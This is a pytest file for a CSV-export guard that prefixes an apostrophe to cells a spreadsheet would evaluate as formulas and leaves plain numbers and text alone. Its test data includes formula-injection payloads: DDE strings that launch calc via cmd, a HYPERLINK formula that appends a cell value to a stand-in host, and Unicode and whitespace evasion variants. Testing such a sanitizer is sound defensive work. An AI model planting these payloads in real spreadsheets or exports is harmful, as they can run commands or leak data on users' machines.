"""The guard of CSV: what a spreadsheet would evaluate gets an apostrophe, and plain numbers stay."""

import pytest

from api.csvcells import harmless


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "+1+2",
        "-1-2",
        "-2+3+cmd|' /C calc'!A0",
        "+49-30-1234",
        "@SUM(A1)",
        "\t=1",
        "\r1",
        "\n1",
        "  =cmd|' /C calc'!A0",
        "\u00a0=1",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff20SUM(1)",
        "- item",
        "-A1",
        "+A1",
        "-1 2-3",
        "-1e5+A1",
        "=",
        "+1-1",
        "+1 (555) 123-4567",
        '=HYPERLINK("http://example.test/"&A1,"Click")',
        "\t=cmd|' /C calc'!A0",
    ],
)
def test_what_would_be_evaluated_gets_an_apostrophe(cell: str) -> None:
    """OWASP's list; OWASP/www-community#401, iota-uz/iota-sdk#1080, productdevbook/hucre#164."""
    assert harmless(cell) == f"'{cell}"


@pytest.mark.parametrize(
    "cell",
    [
        "",
        "a=b",
        "1-2",
        " x",
        "'=",
        "-5",
        "-5.00",
        "+5",
        "-1,234.56",
        "-1.234,56",
        "-1 234,56",
        "-1'234.56",
        "-1\u202f234",
        "-.5",
        "-5%",
        "-5 €",
        "-1.5E-07",
        "-1250.5",
        "-1e-7",
        "-0.02",
        "+49 30 1234",
        "+4930123456",
        "-",
        "a, b (c), -d",
        "x; -5; +7",
        "one\n- two (2)\n- three",
    ],
)
def test_plain_numbers_and_other_texts_stay(cell: str) -> None:
    """woocommerce/woocommerce#53020, grafana/grafana#17363, mui/mui-x#13790, Semkoo/niko-table-registry#194,
    JSONbored/metagraphed#4569, hhurz/tableExport.jquery.plugin#296.
    """
    assert harmless(cell) == cell


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("a;=cmd()", "a;'=cmd()"),
        ('a, "=cmd()"', 'a, "\'=cmd()"'),
        ("a\n=1+1", "a\n'=1+1"),
        ("a\t@SUM(A1)", "a\t'@SUM(A1)"),
        ("a;-cmd|'/C calc'!A0", "a;'-cmd|'/C calc'!A0"),
        ("a\n+cmd|'/C calc'!A0", "a\n'+cmd|'/C calc'!A0"),
        ("a\n+f(x)\n-a|b|\n@dataclass(frozen=True)", "a\n+f(x)\n-a|b|\n@dataclass(frozen=True)"),
    ],
)
def test_a_spreadsheet_that_expects_another_separator_finds_no_formula_within(cell: str, written: str) -> None:
    assert harmless(cell) == written
